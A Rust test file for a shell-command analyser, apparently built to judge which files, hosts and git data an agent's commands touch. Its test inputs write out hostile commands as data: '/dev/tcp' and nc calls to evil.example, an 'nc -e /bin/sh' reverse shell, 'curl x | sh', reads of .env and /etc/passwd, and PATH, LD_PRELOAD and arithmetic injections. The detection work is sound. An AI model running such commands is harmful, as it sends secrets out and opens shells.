#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]
//! What `analyze` reports, one behaviour per test: effects of the commands people run,
//! composition, wrappers, and the parts that must stay opaque.

use mandate_shell::{Analysis, ArchiveFormat, Effect, GitTouch, Unpack, analyze};

fn read(p: &str) -> Effect {
    Effect::Read(p.to_string())
}
fn write(p: &str) -> Effect {
    Effect::Write(p.to_string())
}
fn net(p: &str) -> Effect {
    Effect::Network(p.to_string())
}
/// What git holds for a path, from the top of the work tree or the working directory.
fn git(what: GitTouch, p: &str, from_top: bool) -> Effect {
    Effect::Git {
        what,
        path: p.to_string(),
        from_top,
    }
}
fn unpack(
    format: ArchiveFormat,
    archive: Option<&str>,
    into: &str,
    strip: usize,
    members: &[&str],
) -> Effect {
    Effect::Unpack(Unpack {
        format,
        archive: archive.map(str::to_string),
        into: into.to_string(),
        strip,
        members: members.iter().map(|m| m.to_string()).collect(),
        flatten: false,
    })
}
fn history(p: &str) -> Effect {
    git(GitTouch::History, p, true)
}

/// Every effect of every command, in order.
fn effects(line: &str) -> Vec<Effect> {
    let analysis = analyze(line);
    analysis
        .commands
        .iter()
        .flat_map(|c| c.effects.clone())
        .collect()
}

fn programs(line: &str) -> Vec<String> {
    analyze(line).commands.iter().map(|c| c.line()).collect()
}

fn opaque(line: &str) -> bool {
    !analyze(line).opaque.is_empty()
}

fn clean(line: &str) -> Analysis {
    let analysis = analyze(line);
    assert!(analysis.opaque.is_empty(), "{line}: {:?}", analysis.opaque);
    analysis
}

// ---- read-only commands ------------------------------------------------------------

#[test]
fn readers_read_their_operands_and_are_known() {
    let a = clean("cat a.txt b.txt");
    assert_eq!(a.commands[0].effects, [read("a.txt"), read("b.txt")]);
    assert!(a.commands[0].known);
    assert_eq!(effects("head -n 5 f"), [read("f")]);
    assert_eq!(effects("tail -5 f"), [read("f")]);
    assert_eq!(effects("wc -l f g"), [read("f"), read("g")]);
    assert_eq!(effects("grep -n pat f"), [read("f")]);
    assert_eq!(effects("grep -e pat f"), [read("f")]);
    assert_eq!(effects("diff -u a b"), [read("a"), read("b")]);
    assert_eq!(effects("sed -n 1,5p f"), [read("f")]);
    assert_eq!(effects("ls"), [read(".")]);
    assert!(clean("echo hi").commands[0].effects.is_empty());
}

#[test]
fn recursive_reads_cover_the_tree() {
    assert_eq!(effects("grep -r x src"), [read("src"), read("src/**")]);
    assert_eq!(effects("rg x"), [read("./**")]);
    // A listing by one name pattern reads the names that match (#18).
    assert_eq!(effects("find src -name '*.py'"), [read("src/**/*.py")]);
    assert_eq!(
        effects("find . -type f -name '*.go' -maxdepth 3"),
        [read("./**/*.go")]
    );
    for wide in [
        "find . -name '*.go' -o -name .env",
        "find . ! -name '*.go'",
        "find . -path './a/*.go'",
        "find . -name '*.{go,env}'",
        "find . -iname '*.go'",
    ] {
        assert_eq!(effects(wide).first(), Some(&read("./**")), "{wide}");
    }
    assert_eq!(
        effects("grep -rn x --include='*.go' ."),
        [read("."), read("./**/*.go")]
    );
    assert_eq!(
        effects("grep -r x --include=*.go --include=go.mod"),
        [read("./**/*.go"), read("./**/go.mod")]
    );
    assert_eq!(
        effects("grep -r x --include='a/*.go' src"),
        [read("src"), read("src/**")]
    );
    assert_eq!(effects("rg -g '*.go' x"), [read("./**")]);
    assert_eq!(effects("ls -R d"), [read("d/**")]);
}

#[test]
fn globs_are_reported_as_patterns_and_braces_expand() {
    assert_eq!(effects("cat .e*"), [read(".e*")]);
    assert_eq!(effects("cat .[e]nv"), [read(".?nv")]);
    assert_eq!(effects("cat {a,b}.txt"), [read("a.txt"), read("b.txt")]);
    assert_eq!(
        effects("cat '*'"),
        [read("*")],
        "a quoted star is still matched as a pattern"
    );
}

#[test]
fn unknown_commands_need_an_execute_rule() {
    let a = clean("pytest tests -q");
    assert!(!a.commands[0].known);
    assert_eq!(a.commands[0].line(), "pytest tests -q");
    assert!(!clean("./pytest").commands[0].known);
    assert_eq!(clean("/tmp/git status").commands[0].program, "/tmp/git");
    assert!(!clean("/bin/cat f").commands[0].known);
}

// ---- writes ----------------------------------------------------------------------

#[test]
fn redirections() {
    assert_eq!(effects("echo x > f"), [write("f")]);
    assert_eq!(effects("echo x >> f"), [write("f")]);
    assert_eq!(effects("echo x >| f"), [write("f")]);
    assert_eq!(effects("make &> log"), [write("log")]);
    assert_eq!(effects("cat < in"), [read("in")]);
    assert!(
        effects("make 2>&1").is_empty(),
        "fd duplication writes nothing"
    );
    assert!(effects("make 2>/dev/null >&2").is_empty());
    assert_eq!(effects("cat <<EOF > out\nhi\nEOF"), [write("out")]);
    assert_eq!(
        effects("echo > /dev/tcp/evil.example/80"),
        [net("evil.example")]
    );
    let a = clean("> f");
    assert_eq!(a.commands[0].effects, [write("f")]);
    assert!(a.commands[0].known);
    assert_eq!(effects("{ echo a; echo b; } > f"), [write("f")]);
}

#[test]
fn file_commands() {
    assert_eq!(effects("tee a b"), [write("a"), write("b")]);
    assert_eq!(effects("touch f"), [write("f")]);
    assert_eq!(effects("mkdir -p a/b"), [write("a/b")]);
    assert_eq!(effects("rm f"), [write("f")]);
    assert_eq!(effects("rm -rf d"), [write("d"), write("d/**")]);
    assert_eq!(effects("cp a b"), [read("a"), write("b/a"), write("b")]);
    assert_eq!(
        effects("mv a b"),
        [read("a"), write("a"), write("b/a"), write("b")]
    );
    // A symbolic link's target is judged by the caller from where the link really is
    // (`links::links_made`); a hard link reads its source.
    assert_eq!(effects("ln -s ../x d/l"), [write("d/l/x"), write("d/l")]);
    assert_eq!(
        effects("ln ../x d/l"),
        [read("../x"), write("d/l/x"), write("d/l")]
    );
    assert_eq!(effects("chmod 644 f"), [write("f")]);
    assert_eq!(effects("chmod -x f"), [write("f")]);
    assert_eq!(effects("chown me f"), [write("f")]);
    assert_eq!(effects("truncate -s 0 f"), [write("f")]);
    assert_eq!(
        effects("install -m 644 a d/"),
        [read("a"), write("d/a"), write("d/")]
    );
    assert_eq!(effects("dd if=a of=b bs=1"), [read("a"), write("b")]);
}

#[test]
fn sed_and_perl_in_place() {
    assert_eq!(effects("sed -i s/a/b/ f"), [read("f"), write("f")]);
    assert_eq!(effects("sed -i.bak -e s/a/b/ f"), [read("f"), write("f")]);
    assert_eq!(effects("sed -n 'w out' f"), [write("out"), read("f")]);
    assert_eq!(effects("sed '1r secret' f"), [read("secret"), read("f")]);
    assert!(opaque("sed 's/a/b/e' f"));
    assert!(opaque("sed -f script.sed f"));
    assert!(opaque("perl -pi -e 's/a/b/' f"));
}

#[test]
fn archives() {
    assert_eq!(
        effects("tar czf out.tgz src"),
        [write("out.tgz"), read("src"), read("src/**")]
    );
    assert_eq!(
        effects("tar xzf a.tgz -C dest"),
        [
            read("a.tgz"),
            unpack(ArchiveFormat::Tar, Some("a.tgz"), "dest", 0, &[])
        ]
    );
    assert_eq!(
        effects("tar -x --strip-components=2 -f a.tar sub"),
        [
            read("a.tar"),
            unpack(ArchiveFormat::Tar, Some("a.tar"), ".", 2, &["sub"])
        ]
    );
    // From the standard input: no archive to read first.
    assert_eq!(
        effects("curl -s https://example.com/a.tgz | tar xz"),
        [
            net("https://example.com/a.tgz"),
            unpack(ArchiveFormat::Tar, None, ".", 0, &[])
        ]
    );
    assert!(opaque("tar xf a.tar --transform 's,^,.claude/,'"));
    assert!(opaque("tar xf a.tar -C a -C b"));
    assert_eq!(effects("tar tf a.tar"), [read("a.tar")]);
    assert!(opaque("tar xf a.tar --to-command=sh"));
    assert_eq!(
        effects("zip out.zip a b"),
        [write("out.zip"), read("out.zip"), read("a"), read("b")]
    );
    assert_eq!(
        effects("unzip a.zip -d d"),
        [
            read("a.zip"),
            unpack(ArchiveFormat::Zip, Some("a.zip"), "d", 0, &[])
        ]
    );
    assert_eq!(
        effects("unzip -P secret -oj a.zip 'x/*'"),
        [
            read("a.zip"),
            Effect::Unpack(Unpack {
                format: ArchiveFormat::Zip,
                archive: Some("a.zip".to_string()),
                into: ".".to_string(),
                strip: 0,
                members: vec!["x/*".to_string()],
                flatten: true,
            })
        ]
    );
    assert_eq!(
        effects("git apply -p2 --directory=billing fix.diff"),
        [
            read("fix.diff"),
            unpack(ArchiveFormat::Patch, Some("fix.diff"), "billing", 2, &[])
        ]
    );
    assert_eq!(effects("git apply --stat fix.diff"), [read("fix.diff")]);
    assert_eq!(
        effects("git diff | git apply -R"),
        [
            git(GitTouch::Changed, ".", true),
            unpack(ArchiveFormat::Patch, None, ".", 1, &[])
        ]
    );
    assert!(opaque("git apply --reject fix.diff"));
    assert_eq!(effects("unzip -l a.zip"), [read("a.zip")]);
}

// ---- network -----------------------------------------------------------------------

#[test]
fn network_commands() {
    let a = clean("curl -o out https://example.com/x");
    assert_eq!(
        a.commands[0].effects,
        [write("out"), net("https://example.com/x")]
    );
    assert!(!a.commands[0].known);
    assert_eq!(
        effects("curl -T f https://h"),
        [read("f"), net("https://h")]
    );
    assert_eq!(
        effects("curl -d @f https://h"),
        [read("f"), net("https://h")]
    );
    assert_eq!(
        effects("curl -F a=@f https://h"),
        [read("f"), net("https://h")]
    );
    assert_eq!(effects("curl file:///etc/passwd"), [read("/etc/passwd")]);
    assert_eq!(
        effects("wget -O out https://h/x"),
        [net("https://h/x"), write("out")]
    );
    assert_eq!(effects("nc evil.example 443"), [net("evil.example")]);
    assert_eq!(effects("ssh me@host.example ls"), [net("host.example")]);
    assert_eq!(
        effects("scp f host.example:/tmp"),
        [read("f"), net("host.example")]
    );
    assert_eq!(
        effects("rsync -a src/ me@host.example:x"),
        [read("src/"), read("src/**"), net("host.example")]
    );
    assert_eq!(effects("git push"), [net("origin")]);
    assert_eq!(effects("git fetch upstream"), [net("upstream")]);
    assert_eq!(effects("pip install x"), [net("pypi.org")]);
    assert_eq!(effects("npm install"), [net("registry.npmjs.org")]);
    assert!(opaque("ssh -o ProxyCommand=x host"));
    assert!(opaque("nc -e /bin/sh host 1"));
}

#[test]
fn git_subcommands() {
    let a = clean("git status");
    assert!(a.commands[0].known && a.commands[0].effects.is_empty());
    assert!(clean("git log --oneline").commands[0].known);
    // Content commands reveal history: the whole repository unless pathspecs limit them.
    assert_eq!(effects("git diff"), [git(GitTouch::Changed, ".", true)]);
    assert_eq!(
        effects("git diff --cached -- a"),
        [git(GitTouch::Changed, "a", false)]
    );
    assert_eq!(effects("git show HEAD:.env"), [history(".env")]);
    assert_eq!(effects("git diff --stat"), []);
    assert_eq!(effects("git log -p"), [history(".")]);
    assert_eq!(effects("git show HEAD~1"), [history(".")]);
    assert_eq!(effects("git cat-file -p 1234abcd"), [history(".")]);
    assert_eq!(effects("echo x | git cat-file --batch")[..], [history(".")]);
    assert_eq!(effects("git archive HEAD"), [history(".")]);
    assert_eq!(effects("git log -p --follow -- a.py")[0], history("."));
    // Pathspecs as git resolves them: from the working directory, or from the top.
    assert_eq!(
        effects("git diff HEAD -- a.py"),
        [git(GitTouch::History, "a.py", false)]
    );
    assert_eq!(
        effects("git show HEAD:./a.py"),
        [git(GitTouch::History, "./a.py", false)]
    );
    assert_eq!(effects("git show :x/y"), [history("x/y")]);
    assert_eq!(effects("git diff HEAD -- :/x"), [history("x")]);
    assert_eq!(effects("git diff HEAD -- ':(top)x'"), [history("x")]);
    assert_eq!(effects("git diff HEAD -- ':!x'"), [history(".")]);
    assert_eq!(effects("git show ':/a message'"), [history(".")]);
    assert_eq!(
        effects("git log -p NAME"),
        [git(GitTouch::Ambiguous, "NAME", false)]
    );
    assert_eq!(
        effects("git blame a.py"),
        [git(GitTouch::History, "a.py", false)]
    );
    // Putting files back writes only the ones with local changes; a stash writes what it holds.
    assert_eq!(
        effects("git checkout -- a.py"),
        [git(GitTouch::Revert, "a.py", false)]
    );
    assert_eq!(
        effects("git restore :/x"),
        [git(GitTouch::Revert, "x", true)]
    );
    assert_eq!(effects("git stash"), [git(GitTouch::Revert, ".", true)]);
    assert_eq!(effects("git stash list"), []);
    assert_eq!(
        effects("git stash pop"),
        [git(GitTouch::Stash, "stash@{0}", true)]
    );
    assert!(clean("git checkout -- a.py").commands[0].known);
    assert!(
        !clean("git checkout main").commands[0].known,
        "switching runs hooks"
    );
    assert_eq!(
        effects("git init sub"),
        [write("sub"), write("sub/.git"), write("sub/.git/**")]
    );
    assert!(
        !clean("git commit -m x").commands[0].known,
        "commit runs hooks"
    );
    assert_eq!(
        clean("git -C sub status").commands[0].cwd.as_deref(),
        Some("sub/.")
    );
    assert!(opaque("git -c core.pager=x log"));
    assert!(!opaque("git -c color.ui=always log"));
    assert!(opaque("git --git-dir=/x status"));
    assert!(opaque("git config core.fsmonitor x"));
}

// ---- composition ------------------------------------------------------------------

#[test]
fn lists_pipelines_and_groups_report_every_command() {
    assert_eq!(
        programs("a && b || c; d & e\nf"),
        ["a", "b", "c", "d", "e", "f"]
    );
    assert_eq!(programs("a | b |& c"), ["a", "b", "c"]);
    assert_eq!(programs("(a; b) && { c; }"), ["a", "b", "c"]);
    assert_eq!(
        programs("if a; then b; elif c; then d; else e; fi"),
        ["a", "b", "c", "d", "e"]
    );
    assert_eq!(
        programs("for i in 1 2; do a; done; while b; do c; done"),
        ["a", "b", "c"]
    );
    assert_eq!(programs("case x in y) a;; esac"), ["a"]);
    assert_eq!(programs("! a"), ["a"]);
    assert_eq!(programs("a \\\n b"), ["a b"]);
}

#[test]
fn cd_is_tracked_through_the_line() {
    let a = clean("cd src && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("src"));
    // A logical `cd ..` removes the folder before it as text, as Bash does; `cd -P` and
    // `set -P` leave `..` for the caller to resolve where the links lead, and end in a
    // `.` that later logical `..` do not remove.
    let a = clean("cd src && cd .. && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("."));
    let a = clean("cd s/s/../../x && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("x"));
    let a = clean("cd ../x && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("../x"));
    let a = clean("cd -P s/s/../.. && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("s/s/../../."));
    let a = clean("cd -P s/.. && cd ../x && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("s/.././../x"));
    let a = clean("cd -P -L s/.. && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("."));
    let a = clean("set -P; cd s/.. && cat a");
    assert_eq!(a.commands.last().unwrap().cwd.as_deref(), Some("s/../."));
    let a = clean("set -eP; set +P; cd s/.. && cat a");
    assert_eq!(a.commands.last().unwrap().cwd.as_deref(), Some("."));
    let a = clean("cd /a/b/../../../c && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("/c"));
    let a = clean("cd ~/a/.. && cat a");
    assert_eq!(a.commands[0].cwd.as_deref(), Some("~"));
    // `;` runs the next command even when `cd` failed: both directories.
    let cwds: Vec<Option<String>> = clean("cd src; cat a")
        .commands
        .iter()
        .map(|c| c.cwd.clone())
        .collect();
    assert_eq!(cwds, [Some("src".to_string()), None]);
    // A subshell's `cd` stays in the subshell.
    assert_eq!(clean("(cd src) && cat a").commands[0].cwd, None);
    assert_eq!(clean("cd src | cat a").commands[0].cwd, None);
    assert_eq!(clean("cd && cat a").commands[0].cwd.as_deref(), Some("~"));
    assert!(opaque("cd $X && cat a"));
    assert!(opaque("cd - && cat a"));
    assert!(opaque("for d in a b; do cd $d; done"));
}

/// The folders `program` runs in, and the effects it has there.
fn runs_of(line: &str, program: &str) -> Vec<(Option<String>, Vec<Effect>)> {
    analyze(line)
        .commands
        .iter()
        .filter(|c| c.program == program)
        .map(|c| (c.cwd.clone(), c.effects.clone()))
        .collect()
}

/// tree-sitter-bash 0.25 nests lists, pipelines and redirections differently from Bash.
/// Each case is checked as written (read by the plain reader) and with a `$(…)` at the
/// start, which sends the whole line to tree-sitter.
#[test]
fn lists_pipelines_and_redirections_group_as_bash_groups_them() {
    for prefix in ["", "true $(true); "] {
        // A redirection after a list's last command is that command's, in its folder:
        // the tree hangs it on the whole list, which would judge `passwd` where the line
        // started.
        let line = format!("{prefix}cd /etc && echo x > passwd");
        assert_eq!(
            runs_of(&line, "echo"),
            [(Some("/etc".to_string()), vec![write("passwd")])],
            "{line}"
        );
        assert!(
            !runs_of(&line, ">").iter().any(|(cwd, _)| cwd.is_none()),
            "{line}"
        );
        // `a | b | c && cd x`: the `cd` runs in the shell (the tree puts it inside the
        // pipeline, where it would be lost).
        let line = format!("{prefix}ls | sort | head && cd /etc; echo x > passwd");
        assert!(
            runs_of(&line, "echo").contains(&(Some("/etc".to_string()), vec![write("passwd")])),
            "{line}: {:?}",
            analyze(&line)
        );
        // `cd x && a > f | b`: `b` runs after the `cd` (the tree makes the list a
        // pipeline element).
        let line = format!("{prefix}cd /etc && true > x | tee passwd");
        assert_eq!(
            runs_of(&line, "tee"),
            [(Some("/etc".to_string()), vec![write("passwd")])],
            "{line}"
        );
        // `a | b < f`: the redirection is `b`'s.
        let line = format!("{prefix}ls | grep x < .env");
        assert_eq!(
            runs_of(&line, "grep"),
            [(None, vec![read(".env")])],
            "{line}"
        );
    }
}

/// After a pipeline of three commands, tree-sitter-bash can read on past a line break
/// and make the next line's command arguments of the pipeline's last one: that command
/// would never be judged.
#[test]
fn a_command_on_the_next_line_is_never_swallowed() {
    let line = "ls | sort | head\nbash -c 'cat .env' > out";
    assert!(effects(line).contains(&read(".env")), "{:?}", analyze(line));
    // When the whole line goes to tree-sitter, the misread command is opaque.
    let line = "echo $(true) | sort | head\nbash -c 'cat .env' > out";
    let analysis = analyze(line);
    assert!(
        analysis
            .opaque
            .iter()
            .any(|o| o.reason.contains("line break"))
            || effects(line).contains(&read(".env")),
        "{analysis:?}"
    );
}

#[test]
fn substitutions_run_and_their_output_is_unknown() {
    let a = analyze("echo $(cat .env)");
    assert_eq!(a.commands[0].effects, [read(".env")]);
    assert_eq!(a.commands[1].args, ["$(cat .env)"]);
    assert_eq!(effects("echo `cat x`"), [read("x")]);
    assert_eq!(effects("diff <(cat a) b"), [read("a"), read("b")]);
    assert!(
        opaque("$(echo rm) -rf /"),
        "a substitution in the command position"
    );
    assert!(opaque("cat $(ls)"), "a substitution in a path position");
    assert!(opaque("cat \"$F\""));
    assert!(
        !opaque("echo \"$HOME\""),
        "unknown words are fine where no path is expected"
    );
    assert_eq!(effects("cat <<EOF\n$(cat .env)\nEOF"), [read(".env")]);
    assert!(effects("cat <<'EOF'\n$(cat .env)\nEOF").is_empty());
}

#[test]
fn quoting_is_removed() {
    assert_eq!(programs("\\rm -rf x"), ["rm -rf x"]);
    assert_eq!(programs("'r'\"m\" x"), ["rm x"]);
    assert_eq!(programs("$'\\x72m' x"), ["rm x"]);
    assert_eq!(programs("echo \"a  b\" 'c d'"), ["echo a  b c d"]);
    assert_eq!(clean("echo \"a  b\"").commands[0].args, ["a  b"]);
    assert!(
        opaque("{rm,-rf,x}"),
        "braces in the command position do not parse: opaque"
    );
}

// ---- wrappers ----------------------------------------------------------------------

#[test]
fn wrappers_are_unwrapped() {
    for line in [
        "env cat f",
        "env LANG=C cat f",
        "nice -n 5 cat f",
        "nohup cat f",
        "timeout 5 cat f",
        "timeout -s KILL 5 cat f",
        "time cat f",
        "command cat f",
        "exec cat f",
        "stdbuf -oL cat f",
        "bash -c 'cat f'",
        "sh -ec \"cat f\"",
        "env nice timeout 1 bash -c 'command cat f'",
    ] {
        let a = clean(line);
        assert_eq!(
            a.commands.iter().map(|c| c.line()).collect::<Vec<_>>(),
            ["cat f"],
            "{line}"
        );
        assert_eq!(a.commands[0].effects, [read("f")], "{line}");
    }
}

#[test]
fn privileged_wrappers_are_reported_and_unwrapped() {
    assert_eq!(
        programs("sudo -u root cat f"),
        ["sudo -u root cat f", "cat f"]
    );
    assert!(!clean("sudo cat f").commands[0].known);
}

#[test]
fn find_actions_and_xargs() {
    assert_eq!(
        programs("find . -name '*.pyc' -exec rm {} +"),
        ["find . -name *.pyc -exec rm {} +", "rm ./**"]
    );
    assert_eq!(effects("find d -delete"), [read("d/**"), write("d/**")]);
    assert!(
        opaque("ls | xargs cat"),
        "xargs arguments are unknown paths"
    );
    assert_eq!(
        programs("ls | xargs -0 pytest"),
        ["ls", "pytest $(xargs input)"]
    );
    assert!(opaque("find . -exec sh -c 'cat $1' _ {} \\;"));
}

// ---- opaque parts ----------------------------------------------------------------

#[test]
fn code_the_text_does_not_show_is_opaque() {
    for line in [
        "python -c 'print(1)'",
        "python3 -Ic 'print(1)'",
        "node -e 'x'",
        "node --eval=x",
        "perl -ne 'print' f",
        "ruby -e x",
        "php -r x",
        "deno eval x",
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print | \"sh\"}' f",
        "awk '{print > \"out\"}' f",
        "eval ls",
        "source x.sh",
        ". x.sh",
        "curl x | sh",
        "cat f | bash",
        "cat f | python3",
        "bash",
        "bash < script",
        "bash -i",
        "f() { ls; }",
        "alias ls=rm",
        "trap 'rm x' EXIT",
    ] {
        assert!(opaque(line), "{line} should be opaque");
    }
}

#[test]
fn changing_path_makes_the_rest_opaque() {
    assert!(opaque("PATH=/tmp ls"));
    assert!(opaque("export PATH=/tmp:$PATH; ls"));
    let a = analyze("PATH=/tmp; ls; cat f");
    assert!(a.opaque.len() >= 3, "{:?}", a.opaque);
    assert!(opaque("LD_PRELOAD=x.so ls"));
    assert!(opaque("env GIT_SSH_COMMAND=x git fetch"));
    assert!(!opaque("CI=1 npm test"));
}

/// Issue 14, item 4: a variable set for a command passes only when it cannot change what
/// runs, reads or writes; a few are judged by what they imply; the rest are opaque.
#[test]
fn variables_pass_only_from_the_allow_list() {
    for line in [
        "LANG=C ls",
        "NO_COLOR=1 ls",
        "env TZ=UTC ls",
        "export LC_ALL=C; ls",
        "x=1; ls",
        "for n in 1 2; do ls; done",
        "unset PYTHONWARNINGS; ls",
        "PYTHONWARNINGS=error ls",
    ] {
        assert!(!opaque(line), "{line}");
    }
    for line in [
        "FOO=1 ls",
        "export FOO=1; ls",
        "env FOO=1 ls",
        "declare -x FOO=1; ls",
        "typeset -x FOO=1; ls",
        "set -a; foo=1; ls",
        "set -o allexport; foo=1; ls",
        "FOO=1; ls",
        "read FOO < f; ls",
        "PS4='$(id)'; set -x; ls",
        "MANDATE_USER=x ls",
        "export MANDATE_USER=x",
        "PYTHONWARNINGS=ignore::evil.Warning ls",
        "PYTEST_ADDOPTS='-p evil' ls",
        "GCONV_PATH=/tmp ls",
    ] {
        assert!(opaque(line), "{line}");
    }
    let a = analyze("PYTHONPATH=src:lib ls");
    assert!(a.is_transparent(), "{:?}", a.opaque);
    assert!(a.commands[0].effects.contains(&read("src/**")), "{a:?}");
    assert!(a.commands[0].effects.contains(&read("lib/**")), "{a:?}");
    let a = analyze("export COVERAGE_FILE=deploy/c; ls");
    assert!(
        a.commands
            .iter()
            .any(|c| c.effects.contains(&Effect::Write("deploy/c".into()))),
        "{a:?}"
    );
}

#[test]
fn arithmetic_on_assigned_variables_is_opaque() {
    assert!(opaque("x='a[$(id)]'; [[ $x -eq 1 ]]"));
    assert!(opaque("x=1; (( x ))"));
    assert!(!opaque("echo $((1 + 2))"));
    assert!(!opaque("[[ -f x ]]"));
}

#[test]
fn parse_errors_and_odd_characters_are_opaque() {
    for line in [
        "cat (",
        "echo 'unterminated",
        "if true; then",
        "ls *(e:'rm x':)",
        "cat f\r rm x",
        "cat\u{00a0}f",
        "a\u{0}b",
    ] {
        assert!(opaque(line), "{line:?} should be opaque");
    }
}

#[test]
fn limits_hold() {
    let long = "a".repeat(mandate_shell::MAX_INPUT + 1);
    assert!(opaque(&long));
    let deep = format!("{}x{}", "(".repeat(500), ")".repeat(500));
    assert!(opaque(&deep));
    // Wrappers nested past the depth limit.
    let nested = format!("{}ls", "nice ".repeat(200));
    assert!(opaque(&nested));
    let many: String = (0..mandate_shell::MAX_COMMANDS + 10)
        .map(|n| format!("echo {n};"))
        .collect();
    let a = analyze(&many);
    assert!(a.commands.len() <= mandate_shell::MAX_COMMANDS);
    assert!(!a.opaque.is_empty());
}

/// A variable that decides which program runs (`PATH` above all: unset, Bash searches
/// the current folder) can be set in many ways besides `NAME=value`; each makes the rest
/// of the line opaque, and setting other variables does not.
#[test]
fn every_way_of_setting_path_makes_the_rest_opaque() {
    for line in [
        "export PATH=.; git status",
        "\"export\" PATH=.; git status",
        "export'' PATH=.; git status",
        "\\export PATH=.; git status",
        "builtin export PATH=.; git status",
        "command export PATH=.; git status",
        "export \"PATH=.\"; git status",
        "declare -x 'PATH=.'; git status",
        "export PA''TH=.; git status",
        "readonly PATH=.; git status",
        "unset PATH; git status",
        "unset -v \"PATH\"; git status",
        "read PATH <<< .; git status",
        "read -r -p 'dir? ' PATH; git status",
        "printf -v PATH %s .; git status",
        "printf -vPATH %s .; git status",
        "mapfile -t PATH < f; git status",
        "readarray PATH < f; git status",
        "getopts a PATH; git status",
        "for PATH in .; do git status; done",
        "select PATH in .; do git status; done",
        "(( PATH = 0 )); git status",
        "echo $(( PATH = 0 )); git status",
        ": ${PATH:=.}; git status",
        ": ${PATH=.}; git status",
        "export LD_PRELOAD=./x.so; git status",
        "read -r BASH_ENV < f; bash -c 'git status'",
    ] {
        let analysis = analyze(line);
        assert!(
            analysis
                .opaque
                .iter()
                .any(|o| o.text.contains("git status")),
            "{line:?}: `git status` should be opaque after the change: {analysis:?}"
        );
    }
    for line in [
        "export TZ=UTC; git status",
        "unset PYTHONWARNINGS; git status",
        "read -r line < f; echo \"$line\"",
        "printf '%s\\n' PATH; git status",
        "for f in a b; do git status; done",
    ] {
        let analysis = analyze(line);
        assert!(
            !analysis
                .opaque
                .iter()
                .any(|o| o.text.contains("git status")),
            "{line:?}: {analysis:?}"
        );
    }
}

/// A variable read from input may hold `a[$(cmd)]`, which arithmetic on it runs.
#[test]
fn arithmetic_on_a_variable_read_from_input_is_opaque() {
    for line in [
        "read x < f; (( x ))",
        "mapfile -t x < f; echo $(( x ))",
        "printf -v x %s \"$1\"; (( x > 1 ))",
    ] {
        assert!(opaque(line), "{line:?}");
    }
}

/// Text that is not Bash makes tree-sitter recover from errors, at about a microsecond a
/// byte: near the size limit that meets the parse budget. Either way the line is opaque,
/// never read as something it is not.
#[test]
fn garbage_up_to_the_size_limit_is_opaque() {
    let part = ")[ case done sed -n 's/a/b/w f' cat `.env !|| ls `%sudo $((| sh  \\; find . -exec ";
    let garbage = part.repeat(mandate_shell::MAX_INPUT / part.len());
    assert!(garbage.len() <= mandate_shell::MAX_INPUT);
    let a = analyze(&garbage);
    assert!(!a.opaque.is_empty());
    // The same garbage as the string of `bash -c`, nested: still opaque.
    let quote = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
    let nested = format!("bash -c {}", quote(&format!("bash -c {}", quote(part))));
    assert!(opaque(&nested));
}

#[test]
fn empty_and_comment_lines_do_nothing() {
    assert_eq!(analyze(""), Analysis::default());
    assert_eq!(analyze("   # just a comment"), Analysis::default());
}

/// Issue 14: programs described by option tables read their options as before; `ln`
/// takes `links.rs`'s table, where `--back` is ambiguous (`--backup`, `--backup=`), so it
/// is an option the analyser does not know (the hand-written table took it as `--backup`).
#[test]
fn option_tables_read_values_as_paths_and_unknown_options_as_unknown() {
    let known = |line: &str| analyze(line).commands.iter().all(|c| c.known);
    assert_eq!(
        effects("touch -r ref.txt a b"),
        [read("ref.txt"), write("a"), write("b")]
    );
    assert_eq!(effects("rm -rf build"), [write("build"), write("build/**")]);
    assert_eq!(effects("date -r stamp"), [read("stamp")]);
    assert!(!known("date -s 2020-01-01"));
    assert_eq!(effects("tee -a log.txt"), [write("log.txt")]);
    assert!(!known("tee --frobnicate log.txt"));
    assert!(known("ln --backup a b"));
    assert!(!known("ln --back a b"));
    assert!(opaque("wget -e robots=off https://x.example/a"));
    assert!(opaque("curl -K opts.txt https://x.example/"));
    assert!(opaque("awk -f prog.awk data"));
}
